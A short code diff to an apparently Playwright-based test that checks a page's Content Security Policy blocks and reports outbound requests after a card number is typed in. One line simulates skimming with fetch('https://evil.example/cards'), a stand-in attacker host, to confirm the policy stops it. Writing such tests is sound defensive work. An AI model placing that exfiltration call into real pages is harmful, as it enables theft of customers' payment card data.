@@ -49,9 +49,10 @@ async function visit(change: (page: string) => string = (page) => page): Promise
 }
 
 test("a page as it was sent is reported by no browser, and a request to another place is stopped, reported and counted", async () => {
+  const before = await violations();
   const page = await visit();
   await page.locator("#pan").fill("4111 1111 1111 1111");
-  expect(await violations()).toEqual([]);
+  expect(await violations()).toEqual(before);
   await page.evaluate(`fetch("https://evil.example/cards").catch(() => undefined)`);
   await expect.poll(violations, PATIENTLY).toContain("connect-src foreign");
 });
